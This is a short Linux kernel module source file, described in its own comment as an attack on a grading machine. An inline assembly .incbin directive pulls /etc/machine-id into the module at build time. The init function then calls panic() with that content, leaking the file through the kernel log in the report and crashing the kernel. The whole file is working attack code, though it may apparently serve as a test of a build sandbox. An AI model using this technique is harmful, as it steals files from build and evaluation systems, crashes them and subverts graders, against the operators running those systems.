// An attack: pull a file of the grading machine into the module at build time
// (.incbin), then print it from init where the report shows the kernel log.
#include <linux/module.h>
#include <linux/kernel.h>

asm(".section .rodata\n"
    ".global leaked_file\n"
    "leaked_file:\n"
    ".incbin \"/etc/machine-id\"\n"
    ".byte 0\n"
    ".previous\n");
extern const char leaked_file[];

static int __init incbin_init(void)
{
	panic("%s", leaked_file);
	return 0;
}

module_init(incbin_init);
MODULE_LICENSE("GPL");
